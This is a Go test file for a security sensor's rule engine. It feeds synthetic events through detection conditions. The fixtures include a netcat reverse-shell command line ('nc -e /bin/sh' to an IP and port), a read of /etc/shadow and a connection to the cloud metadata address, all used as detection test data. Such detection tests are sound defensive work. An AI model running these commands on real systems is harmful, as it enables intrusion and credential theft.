package rules

import (
	"strings"
	"testing"

	"github.com/vigil-sensor/vigil/event"
	"golang.org/x/sys/unix"
)

// testEvents are the events of the operator tables.
func testEvents() map[string]*event.Event {
	bash := procTree()
	cat := proc("cat", "/usr/bin/cat", "/etc/shadow", bash)
	cat.UID, cat.UserName = 1000, "alice"
	noparent := proc("orphan", "/usr/bin/orphan", "", nil)
	return map[string]*event.Event{
		"open":     openEvent(cat, nil, "/etc/shadow", unix.O_RDONLY|unix.O_CLOEXEC, 3),
		"openfail": openEvent(cat, nil, "/etc/shadow", unix.O_RDONLY, -int64(unix.EACCES)),
		"openctr":  openEvent(cat, ctr("0123456789ab"), "/var/log/app/x.log", unix.O_WRONLY|unix.O_TRUNC, 4),
		"exec":     execEvent(proc("nc", "/usr/bin/nc", "-e /bin/sh 10.0.0.1 4444", bash), nil),
		"orphan":   execEvent(noparent, nil),
		"connect":  connectEvent(bash, nil, "10.1.2.3:40000", "93.184.216.34:443", 0),
		"connect6": connectEvent(bash, nil, "[2001:db8::1]:40000", "[2001:db8::2]:22", -int64(unix.EINPROGRESS)),
		"metadata": connectEvent(cat, ctr("abcdefabcdef"), "172.17.0.2:50000", "169.254.169.254:80", 0),
		"loopback": connectEvent(cat, nil, "127.0.0.1:50000", "127.0.0.1:8080", 0),
		"noproc":   {Type: event.TypeOpen, Res: 3, Open: event.Open{Name: []byte("/x"), FileType: unix.S_IFREG}},
	}
}

// TestOperators runs conditions against the synthetic events: each row is
// a condition, an event, and whether the rule should match.
func TestOperators(t *testing.T) {
	events := testEvents()
	tests := []struct {
		cond  string
		event string
		want  bool
	}{
		// Equality, strings.
		{"proc.name = cat", "open", true},
		{"proc.name == cat", "open", true},
		{"proc.name = bash", "open", false},
		{"proc.name != bash", "open", true},
		{"proc.name != cat", "open", false},
		{"fd.name = /etc/shadow", "open", true},
		{`fd.name = "/etc/shadow"`, "open", true},
		{"fd.typechar = 'f'", "open", true},
		// Missing values make every comparison false, != included;
		// negation makes them true.
		{"proc.name = x", "noproc", false},
		{"proc.name != x", "noproc", false},
		{"not proc.name = x", "noproc", true},
		{"proc.name exists", "noproc", false},
		{"proc.name exists", "open", true},
		{"not proc.pname exists", "orphan", true},
		{"proc.pname != bash", "orphan", false},
		{"container.image.repository exists", "open", false},
		{"container.image.repository = docker.io/library/nginx", "openctr", true},
		// String operators.
		{"proc.cmdline contains shadow", "open", true},
		{"proc.cmdline contains SHADOW", "open", false},
		{"proc.cmdline icontains SHADOW", "open", true},
		{"proc.cmdline icontains ETC/Sh", "open", true},
		{"proc.cmdline icontains nope", "open", false},
		{"fd.name startswith /etc/", "open", true},
		{"fd.name startswith /etc/s", "open", true},
		{"fd.name startswith /usr", "open", false},
		{"fd.name endswith shadow", "open", true},
		{"fd.name endswith passwd", "open", false},
		{"fd.name bcontains 736861646f77", "open", true}, // "shadow"
		{"fd.name bstartswith 2f657463", "open", true},   // "/etc"
		{"fd.name bstartswith 2f757372", "open", false},  // "/usr"
		{"fd.name glob /etc/*", "open", true},
		{"fd.name glob '/etc/sh?dow'", "open", true},
		{"fd.name glob '/etc/[st]hadow'", "open", true},
		{"fd.name glob '/etc/[!s]hadow'", "open", false},
		{"fd.name glob /ETC/*", "open", false},
		{"fd.name iglob /ETC/*", "open", true},
		{"fd.name glob *", "open", true},
		{"fd.name regex '/etc/(shadow|gshadow)'", "open", true},
		{"fd.name regex 'shadow'", "open", false}, // anchored at both ends
		{"fd.name regex '.*shad.*'", "open", true},
		// Lists.
		{"proc.name in (bash, cat, sh)", "open", true},
		{"proc.name in (bash, sh)", "open", false},
		{"proc.name in ()", "open", false},
		{"proc.name in (a, b, c, d, e, f, g, h, i, j, cat)", "open", true}, // map-backed set
		{"proc.name in (a, b, c, d, e, f, g, h, i, j, k)", "open", false},
		{"proc.name intersects (cat, dog)", "open", true},
		{"fd.name pmatch (/etc)", "open", true},
		{"fd.name pmatch (/etc/shadow)", "open", true},
		{"fd.name pmatch (/et)", "open", false},
		{"fd.name pmatch (/etc/shadow/x)", "open", false},
		{"fd.name pmatch (/usr, /e*)", "open", true},
		{"fd.name pmatch (/)", "open", true},
		{"fd.name pmatch (/var/log, /tmp)", "open", false},
		// Numbers.
		{"fd.num = 3", "open", true},
		{"fd.num >= 0", "open", true},
		{"fd.num > 3", "open", false},
		{"fd.num < 0x10", "open", true},
		{"fd.num = -1", "openfail", true},
		{"fd.num in (1, 2, 3)", "open", true},
		{"user.uid = 1000", "open", true},
		{"user.uid != 0", "open", true},
		{"user.loginuid = -1", "open", true},
		{"proc.tty != 0", "connect", true},
		{"proc.tty = 0", "open", true},
		{"evt.is_open_read = true", "open", true},
		{"evt.is_open_write = true", "open", false},
		{"evt.is_open_write = false", "open", true},
		{"evt.is_open_write = true", "openctr", true},
		{"evt.rawres >= 0", "open", true},
		{"evt.rawres < 0", "openfail", true},
		{"evt.res = SUCCESS", "open", true},
		{"evt.res = EACCES", "openfail", true},
		{"evt.res startswith E", "openfail", true},
		{"evt.failed = true", "openfail", true},
		{"evt.arg.flags contains O_TRUNC", "openctr", true},
		{"evt.arg.flags contains O_TRUNC", "open", false},
		{"fd.sport = 443", "connect", true},
		{"fd.sport in (80, 443)", "connect", true},
		{"fd.sport > 1024", "connect", false},
		// Addresses.
		{"fd.sip = 93.184.216.34", "connect", true},
		{`fd.sip = "93.184.216.34"`, "connect", true},
		{"fd.sip != 93.184.216.34", "connect", false},
		{"fd.sip in (1.1.1.1, 93.184.216.34)", "connect", true},
		{"fd.sip in (93.184.216.0/24)", "connect", true},
		{`fd.snet in ("93.184.0.0/16", "10.0.0.0/8")`, "connect", true},
		{`fd.snet in ("127.0.0.0/8")`, "connect", false},
		{`fd.snet in ("127.0.0.0/8")`, "loopback", true},
		{"fd.sip = 2001:db8::2", "connect6", true},
		{`fd.snet in ("2001:db8::/32")`, "connect6", true},
		{"fd.sip = 169.254.169.254", "metadata", true},
		{"fd.sip = 169.254.169.254", "open", false},
		{"fd.typechar = '4'", "connect", true},
		{"fd.typechar = '6'", "connect6", true},
		{"evt.res = EINPROGRESS", "connect6", true},
		// Either end of a connection: = and in hold if the client or the
		// server end matches, != only if neither does (Falco's fd.ip,
		// fd.net, fd.port, fd.proto).
		{"fd.ip = 10.1.2.3", "connect", true},
		{"fd.ip = 93.184.216.34", "connect", true},
		{"fd.ip = 1.1.1.1", "connect", false},
		{"fd.ip in (1.1.1.1, 10.1.2.3)", "connect", true},
		{"fd.ip != 10.1.2.3", "connect", false},
		{"fd.ip != 93.184.216.34", "connect", false},
		{"fd.ip != 1.1.1.1", "connect", true},
		{"fd.ip = 10.1.2.3", "open", false},
		{"fd.ip != 1.1.1.1", "open", false},
		{"not fd.ip = 1.1.1.1", "open", true},
		{"fd.ip = 2001:db8::1", "connect6", true},
		{"fd.ip = val(fd.sip)", "connect", true},
		{`fd.net = "10.0.0.0/8"`, "connect", true},
		{`fd.net in ("172.16.0.0/12")`, "metadata", true},
		{`fd.net != "127.0.0.0/8"`, "connect", true},
		{`fd.net != "127.0.0.0/8"`, "loopback", false},
		{`fd.net != "10.0.0.0/8"`, "connect", false},
		{`fd.ip != "0.0.0.0" and fd.net != "127.0.0.0/8" and not fd.snet in ("10.0.0.0/8")`, "connect", true},
		{"fd.port = 40000", "connect", true},
		{"fd.port = 443", "connect", true},
		{"fd.port != 443", "connect", false},
		{"fd.port != 22", "connect", true},
		{"fd.port < 1024", "connect", true},
		{"fd.port > 50000", "connect", false},
		{"fd.port in (22, 8080)", "loopback", true},
		{"fd.port exists", "connect", true},
		{"fd.port exists", "open", false},
		{"fd.proto = 443", "connect", true},
		{"fd.proto = 80", "connect", false},
		// Ancestors: an index picks one, none means any.
		{"proc.aname[0] = cat", "open", true},
		{"proc.aname[1] = bash", "open", true},
		{"proc.aname[2] = sshd", "open", true},
		{"proc.aname[3] = systemd", "open", true},
		{"proc.aname[4] = systemd", "open", false},
		{"proc.aname = sshd", "open", true},
		{"proc.aname = cat", "open", false}, // the process itself is not an ancestor
		{"proc.aname in (systemd, x)", "open", true},
		{"proc.aname startswith ssh", "open", true},
		{"proc.aname != bash", "open", true}, // some ancestor is not bash
		{"proc.aname exists", "orphan", false},
		{"proc.aname exists", "open", true},
		{"proc.apid = 500", "open", true},
		{"proc.aexepath = /usr/sbin/sshd", "open", true},
		{"proc.pname = bash and proc.aname[2] = sshd", "open", true},
		// Keyed fields.
		{"container.label[app] = web", "openctr", true},
		{"container.label[io.kubernetes.pod.name] = web-1", "openctr", true},
		{"container.label['app'] = web", "openctr", true},
		{"container.label[nope] exists", "openctr", false},
		{"container.label[app] exists", "open", false},
		{"container.id = host", "open", true},
		{"container.id != host", "openctr", true},
		// Field against field, transformers.
		{"proc.pname = val(proc.aname[1])", "open", true},
		{"proc.name = val(proc.pname)", "open", false},
		{"proc.name != val(proc.pname)", "open", true},
		{"proc.cmdline contains val(proc.name)", "open", true},
		{"user.uid > val(proc.tty)", "open", true},
		{"fd.sip = val(fd.sip)", "connect", true},
		{"tolower(proc.cmdline) contains shadow", "open", true},
		{"toupper(proc.name) = CAT", "open", true},
		{"basename(fd.name) = shadow", "open", true},
		{"len(proc.name) = 3", "open", true},
		{"len(fd.name) > 5", "open", true},
		{"b64(proc.name) exists", "open", false}, // "cat" is not base64
		{"proc.name = tolower(proc.name)", "open", true},
		// Event types.
		{"evt.type = openat", "open", true},
		{"evt.type in (open, openat)", "open", true},
		{"evt.type != openat", "open", false},
		{"evt.type != execve", "open", true},
		{"evt.type in (ptrace, openat)", "open", true},
		{"not evt.type = ptrace", "open", true},
		{"evt.type startswith open", "open", true},
		// Boolean structure and merged or-groups.
		{"proc.name = x or proc.name = y or proc.name = cat", "open", true},
		{"proc.name = x or proc.name in (y, z) or proc.name startswith ca", "open", true},
		{"proc.name = x or proc.name in (y, z) or proc.name startswith do", "open", false},
		{"fd.name startswith /a or fd.name startswith /b or fd.name startswith /c or fd.name startswith /d or fd.name startswith /etc", "open", true},
		{"fd.name startswith /a or fd.name startswith /b or fd.name startswith /c or fd.name startswith /d or fd.name startswith /f", "open", false},
		{"(proc.name = cat and fd.name = /etc/shadow) or proc.name = x", "open", true},
		{"not (proc.name = cat and fd.name = /etc/passwd)", "open", true},
		{"proc.name = cat and not fd.name startswith /etc", "open", false},
	}
	for _, tt := range tests {
		e := events[tt.event]
		if e == nil {
			t.Fatalf("no event %q", tt.event)
		}
		rs, res, err := loadOne(t, ruleFile(tt.cond), Options{})
		if err != nil {
			t.Errorf("%s: %v", tt.cond, err)
			continue
		}
		if len(res.Skipped()) > 0 {
			t.Errorf("%s: skipped: %s", tt.cond, res.Skipped()[0].Reason)
			continue
		}
		got := len(matches(rs, e)) > 0
		if got != tt.want {
			t.Errorf("%s on %s: got %v, want %v", tt.cond, tt.event, got, tt.want)
		}
		// The uncached compile must agree.
		rs2, _, _ := loadOne(t, ruleFile(tt.cond), Options{noCache: true})
		if got2 := len(matches(rs2, e)) > 0; got2 != got {
			t.Errorf("%s on %s: uncached %v, cached %v", tt.cond, tt.event, got2, got)
		}
	}
}

// TestCompileErrors checks the errors of conditions that parse but do not
// compile, with their position in the file (the condition starts on line
// 7, column 5 of ruleFile's output).
func TestCompileErrors(t *testing.T) {
	tests := []struct {
		cond string
		pos  string
		msg  string
	}{
		{"fd.num = abc", "test.yaml:7:14", "'abc' is not a number"},
		{"fd.num contains 1", "test.yaml:7:5", "operator 'contains' is not supported for int64 field 'fd.num'"},
		{"evt.is_open_read = yes", "test.yaml:7:24", "compare it with true or false"},
		{"fd.sport = 70000", "test.yaml:7:16", "out of range"},
		{"fd.sip = 1.2.3", "test.yaml:7:14", "'1.2.3' is neither"},
		{"fd.sip contains 1", "test.yaml:7:5", "operator 'contains' is not supported"},
		{"proc.name[1] = x", "test.yaml:7:5", "does not take an argument"},
		{"proc.aname[x] = y", "test.yaml:7:5", "needs a non-negative index"},
		{"container.label exists", "test.yaml:7:5", "requires an argument"},
		{"fd.name bcontains xyz", "test.yaml:7:23", "needs hex bytes"},
		{"fd.name regex '('", "test.yaml:7:19", "invalid regular expression"},
		{"proc.name = val(fd.num)", "test.yaml:7:17", "cannot compare string field 'proc.name' with int64 field 'fd.num'"},
		{"proc.name = val(proc.aname)", "test.yaml:7:17", "'proc.aname' has one value per ancestor"},
		{"fd.sip = val(fd.ip)", "test.yaml:7:14", "'fd.ip' has one value per end of the connection"},
		{"fd.ip[1] = 1.2.3.4", "test.yaml:7:5", "does not take an argument"},
		{"len(fd.num) > 1", "test.yaml:7:5", "needs a string field"},
		{"evt.type = open and\nfd.num = x", "test.yaml:8:14", "'x' is not a number"},
		{"nomacro", "test.yaml:7:5", "Undefined macro 'nomacro' used in filter."},
	}
	for _, tt := range tests {
		_, res, err := loadOne(t, ruleFile(tt.cond), Options{})
		if err == nil {
			t.Errorf("%s: loaded, want error %q", tt.cond, tt.msg)
			continue
		}
		errs := res.Errors()
		if len(errs) != 1 {
			t.Errorf("%s: %d errors, want 1", tt.cond, len(errs))
			continue
		}
		m := errs[0]
		if got := m.Pos().String(); got != tt.pos || !strings.Contains(m.Message, tt.msg) || m.Code != ErrCompileCondition {
			t.Errorf("%s:\n got %s %q %s\nwant %s %q %s", tt.cond, got, m.Message, m.Code, tt.pos, tt.msg, ErrCompileCondition)
		}
		if typ, name := m.Item(); typ != "rule" || name != "t" {
			t.Errorf("%s: item %s %q, want rule \"t\"", tt.cond, typ, name)
		}
	}
}

// TestFieldCache checks that a field read by several rules is extracted
// once per event, and again for the next event.
func TestFieldCache(t *testing.T) {
	rs := mustLoad(t, Options{MatchAll: true},
		ruleFile("proc.name = a")+strings.Replace(ruleFile("proc.name = b"), "rule: t", "rule: t2", 1))
	if rs.nslots != 1 {
		t.Fatalf("%d slots, want 1 for proc.name", rs.nslots)
	}
	e := openEvent(proc("b", "/b", "", nil), nil, "/x", 0, 3)
	if n := rs.Match(e, nil); n != 1 {
		t.Fatalf("matched %d rules, want 1", n)
	}
	e2 := openEvent(proc("a", "/a", "", nil), nil, "/x", 0, 3)
	var got []string
	rs.Match(e2, func(r *Rule) { got = append(got, r.Name) })
	if len(got) != 1 || got[0] != "t" {
		t.Fatalf("second event matched %v, want [t]: the cache kept the first event's value", got)
	}
}
